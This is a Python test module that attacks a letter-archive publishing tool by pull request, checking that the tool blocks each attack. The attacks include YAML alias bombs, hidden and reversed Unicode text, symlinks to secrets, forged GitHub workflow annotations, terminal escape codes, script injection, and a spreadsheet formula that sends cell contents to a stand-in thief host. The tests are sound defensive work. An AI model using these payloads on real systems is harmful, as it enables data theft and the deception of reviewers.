"""Attacks by pull request: on whoever checks the records, on what the checks report, and on readers of the pages."""

import contextlib
import hashlib
import re
from collections.abc import Mapping
from typing import Any

import yaml

from publisher.text import MAX_BYTES
from tests.attacks.attack import Result, attack
from tests.attacks.rows import ACTIVE, BOMB, PATHS, PULLED, REPORTED
from tests.attacks.scene import FIRST, SECOND, Desk, command, harmless, refused
from tests.builders import archive_info, change, letter, letter_path, to_yaml, withdrawn

NEW = "2019-07-01-harbour-to-acme"
NEW_PATH = letter_path(NEW)
FORMULA = '=HYPERLINK("https://thief.example/?"&A2,"open")'


def pulled(desk: Desk, data: bytes | str | Mapping[str, Any], path: str = NEW_PATH) -> Result:
    """Judge a pull request that writes one file."""
    archive = desk.archive()
    archive.write(path, data)
    return desk.check(archive.folder)


# -- bombs, and records that two readers take in two ways --------------------------------------------------------


@attack(BOMB, "reader: no aliases", shows=("finding: alias", "finding: anchor"))
def alias_bomb(desk: Desk) -> Result:
    """A record of a few kilobytes names one text over and over, and would fill an index of many times its size."""
    text = to_yaml(letter(NEW)) + f"uncertainty: &bomb {'boom ' * 190}boom\nchanges:\n"
    return pulled(desk, text + "- {kind: addition, note: *bomb}\n" * 90)


@attack(BOMB, "reader: number of values", shows="finding: too-many-values")
def record_of_very_many_values(desk: Desk) -> Result:
    """A record below the limit of its size holds tens of thousands of notes."""
    text = to_yaml(letter(NEW)) + "changes:\n" + "- {kind: addition, note: x}\n" * 15_000
    return pulled(desk, text)


@attack(BOMB, "reader: depth", shows="finding: too-deep")
def record_of_very_many_levels(desk: Desk) -> Result:
    """A record of lists in lists is to end the run, and every other finding with it."""
    archive = desk.archive()
    archive.write(NEW_PATH, f"{to_yaml(letter(NEW))}uncertainty: {'[' * 5000}{']' * 5000}\n")
    with contextlib.suppress(RecursionError):
        return desk.check(archive.folder)
    return Result(caught=False, said="the run ended in a RecursionError, and judged nothing")


@attack(BOMB, "reader: size", shows="finding: file-too-large")
def huge_record(desk: Desk) -> Result:
    """A record of a few lines is filled with megabytes of comment."""
    return pulled(desk, to_yaml(letter(NEW)) + f"# {'x' * 77}\n" * (MAX_BYTES // 40))


@attack(BOMB, "reader: a name stands once", shows="finding: duplicate-key")
def field_that_stands_twice(desk: Desk) -> Result:
    """A letter has two summaries: whoever reviews it sees the first, whoever publishes it takes the last."""
    return pulled(desk, to_yaml(letter(NEW)) + "summary: Asks for nothing.\n")


@attack(BOMB, "reader: no tags", shows="finding: tag")
def text_in_base64(desk: Desk) -> Result:
    """A tag makes a summary base64 for those readers who obey tags, and nonsense for the others."""
    return pulled(desk, to_yaml(letter(NEW, summary=None)) + "summary: !!binary QXNrcyBmb3Igbm90aGluZy4=\n")


@attack(BOMB, "finding: ambiguous-scalar")
def word_that_is_no_word(desk: Desk) -> Result:
    """A title is the word no, without quotes, which half of all readers of YAML take for false."""
    return pulled(desk, to_yaml(letter(NEW, title=None)) + "title: no\n")


@attack(BOMB, "finding: bidi-control")
def text_turned_round(desk: Desk) -> Result:
    """An invisible mark makes a summary read the other way round for whoever reviews it."""
    return pulled(desk, letter(NEW, summary="Agrees \u202eton seod\u202c to the works."))


@attack(BOMB, "finding: tag-character")
def hidden_words(desk: Desk) -> Result:
    """A summary holds a sentence in characters that nothing shows, for programs that read along."""
    hidden = "".join(chr(0xE0000 + ord(character)) for character in "and agreed to everything")
    return pulled(desk, letter(NEW, summary=f"Asks about the works.{hidden}"))


# -- paths -----------------------------------------------------------------------------------------------------


@attack(PATHS, "snapshot: symbolic links", shows=())
def link_to_a_secret(desk: Desk) -> Result:
    """A record is a link to a file of the machine that checks it, whose lines the report would show."""
    archive = desk.archive()
    secret = desk.file("secret", b"token: [unfinished, 7a9f0c3e\n")
    archive.link(NEW_PATH, str(secret))
    done = command(archive.folder, "check")
    assert done.status == 1
    said = done.out.partition("\n")[0]
    return harmless(happened="7a9f0c3e" in done.out, said=said)


@attack(PATHS, "finding: symlink")
def link_that_lands(desk: Desk) -> Result:
    """A letter is a link to another one, which every checkout shows and no publication holds."""
    archive = desk.archive()
    archive.link(NEW_PATH, f"{FIRST}.yaml")
    archive.commit()
    return desk.check(archive.folder, "--at", "HEAD")


@attack(PATHS, "finding: submodule")
def letters_in_a_submodule(desk: Desk) -> Result:
    """A folder of letters is a submodule: every checkout has it, and its bytes stand in no tree of the archive."""
    archive = desk.archive()
    archive.git("update-index", "--add", "--cacheinfo", f"160000,{archive.head},records/letters/2020")
    archive.git("commit", "--quiet", "-m", "More letters")
    return desk.check(archive.folder, "--at", "HEAD")


@attack(PATHS, "finding: lfs-pointer")
def scan_that_is_elsewhere(desk: Desk) -> Result:
    """A scan is committed as a pointer of Git LFS, and what it points to can be another file every day."""
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 1\n"
    return scanned(desk, pointer, media_type="text/plain", sha256=hashlib.sha256(pointer).hexdigest())


@attack(PATHS, "finding: wrong-sha256")
def scan_swapped(desk: Desk) -> Result:
    """A pull request swaps a scan for another of the same size, and leaves the letter as it is."""
    return scanned(desk, b"Other words.\n", media_type="text/plain", sha256=hashlib.sha256(b"x").hexdigest())


def scanned(desk: Desk, data: bytes, *, media_type: str, sha256: str) -> Result:
    """Judge a pull request that adds a letter with a scan."""
    archive = desk.archive()
    archive.write("records/documents/new.pdf", data)
    scan = {
        "file": "new.pdf", "sha256": sha256, "size": len(data), "role": "original", "media_type": media_type,
        "rights": "own", "rights_note": "Written by us.",
    }  # fmt: skip
    archive.letter(NEW, documents=[scan])
    return desk.check(archive.folder)


@attack(PATHS, "finding: duplicate-record")
def letter_in_the_shadow_of_another(desk: Desk) -> Result:
    """A second file with the id of a published letter stands in a folder that comes first, and would be that letter."""
    archive = desk.archive()
    changed = letter(FIRST, summary="Asks for nothing.", changes=[change("addition"), change("editorial")])
    archive.write(f"records/letters/0000/{FIRST}.yaml", changed)
    return desk.check(archive.folder)


@attack(PATHS, "finding: bad-path")
def path_that_no_server_serves(desk: Desk) -> Result:
    """A record stands at a path with marks that mean something else in an address."""
    return pulled(desk, letter(NEW), f"records/letters/2019?/{NEW}.yaml")


# -- reports ---------------------------------------------------------------------------------------------------


@attack(REPORTED, "report: what acts on a terminal is written out", shows=())
def order_to_a_terminal(desk: Desk) -> Result:
    """A record holds characters that turn the lines of a report which complain of it into others."""
    archive = desk.archive()
    archive.write(NEW_PATH, to_yaml(letter(NEW)) + "langauge: en \x1b[2K\x1b[1G1 letter checked, nothing found\n")
    done = command(archive.folder, "check")
    return harmless(happened="\x1b" in done.out, said=done.out.partition("\n")[0])


@attack(REPORTED, "report: what acts on a terminal is written out", shows=())
def order_to_a_log(desk: Desk) -> Result:
    """A record holds a line that a log of GitHub takes for an order, once a report shows it."""
    archive = desk.archive()
    archive.write(NEW_PATH, to_yaml(letter(NEW)) + '"##[error]all is well": 1\n')
    done = command(archive.folder, "check")
    return harmless(happened="##[" in done.out, said=done.out.partition("\n")[0])


@attack(REPORTED, "report: one finding, one line", shows=())
def forged_annotation(desk: Desk) -> Result:
    """A field stands twice whose name holds a line end and a workflow command: the request seems to be approved."""
    archive = desk.archive()
    archive.write(NEW_PATH, to_yaml(letter(NEW)) + '"x\\n::notice title=letterbook::approved by staff": 1\n' * 2)
    lines = command(archive.folder, "check", "--format", "github").out.splitlines()
    forged = [line for line in lines if line.startswith("::notice title=letterbook::approved")]
    return harmless(happened=bool(forged), said=next(line for line in lines if "approved" in line))


@attack(REPORTED, "report: properties end where they should", shows=())
def annotation_moved_elsewhere(desk: Desk) -> Result:
    """A file's name holds a comma and a property, so that what is wrong with it is shown at another file."""
    archive = desk.archive()
    archive.write(f"records/letters/2019/a,file=README.md,line=1,{NEW}.yaml", letter(NEW))
    lines = command(archive.folder, "check", "--format", "github").out.splitlines()
    moved = [line for line in lines if ",file=README.md," in line]
    return harmless(happened=bool(moved), said=lines[0])


# -- pages and tables ------------------------------------------------------------------------------------------


def published(desk: Desk, path: str, **fields: Any) -> str:
    """Publish a new letter, and return one of the files that show it."""
    archive = desk.archive()
    archive.letter(NEW, **fields)
    archive.commit()
    done = desk.publish(archive.folder)
    assert done.status == 0, done.err
    return (desk.folder / "published" / path).read_text("utf-8")


@attack(ACTIVE, "pages: everything is escaped", shows=())
def program_in_a_title(desk: Desk) -> Result:
    """A letter's title is a program, to be run by whoever opens its page."""
    page = published(desk, f"letters/{NEW}/index.html", title="<script>alert(1)</script>")
    return harmless(happened="<script>alert" in page, said="the page shows the title as text")


@attack(ACTIVE, "table: no cell is a formula", shows=())
def formula_in_a_table(desk: Desk) -> Result:
    """A letter's title is a formula that sends the other cells away once the table is opened in a spreadsheet."""
    table = published(desk, "letters.csv", title=FORMULA, title_basis="published")
    return harmless(happened=bool(re.search(r',"?=HYPERLINK', table)), said="the cell begins with an apostrophe")


@attack(ACTIVE, "finding: bad-format")
def program_in_an_address(desk: Desk) -> Result:
    """A letter's source is an address that runs a program in the reader's browser."""
    return pulled(desk, letter(NEW, sources=[{"url": "javascript:alert(1)"}]))


# -- letters that were published -------------------------------------------------------------------------------


@attack(PULLED, "finding: letter-removed")
def letter_deleted(desk: Desk) -> Result:
    """A pull request deletes a published letter among other things."""
    archive = desk.archive()
    archive.delete(letter_path(SECOND))
    return desk.check(archive.folder)


@attack(PULLED, "finding: letter-renamed")
def letter_renamed(desk: Desk) -> Result:
    """A pull request gives a published letter another id, so that what cites it leads nowhere."""
    archive = desk.archive()
    archive.delete(letter_path(SECOND))
    archive.letter("2019-03-02-acme-to-harbour", summary="Regrets the delay.")
    return desk.check(archive.folder)


@attack(PULLED, "finding: change-without-note")
def letter_changed_quietly(desk: Desk) -> Result:
    """A pull request changes what a published letter says, and says nothing of it."""
    return pulled(desk, letter(SECOND, summary="Regrets nothing."), letter_path(SECOND))


@attack(PULLED, "finding: changes-rewritten")
def note_rewritten(desk: Desk) -> Result:
    """A pull request rewrites the note that told why a letter was amended."""
    notes = [change("addition", "The letter itself was clearer."), change("editorial")]
    return pulled(desk, letter(FIRST, summary="Asks more.", changes=notes), letter_path(FIRST))


@attack(PULLED, "finding: identity-changed")
def another_origin(desk: Desk) -> Result:
    """A pull request changes the origin of the log, so that no checkpoint that anybody kept is of it any more."""
    return pulled(desk, archive_info(origin="letterbook.example/other-letters"), "records/archive.yaml")


@attack(PULLED, "publish: not many letters at once", shows="refused")
def letters_withdrawn_by_the_dozen(desk: Desk) -> Result:
    """Somebody merges a change that withdraws every letter, and the job that publishes is to take them all down."""
    archive = desk.archive()
    for name in (path.stem for path in (archive.folder / "records" / "letters").rglob("*.yaml")):
        notes = yaml.safe_load(archive.read(letter_path(name))).get("changes", [])
        archive.write(letter_path(name), withdrawn(name) | {"changes": [*notes, change("withdrawal")]})
    archive.commit()
    return refused(desk.publish(archive.folder, "published", "--previous", desk.scene.sites[1]), "refused")
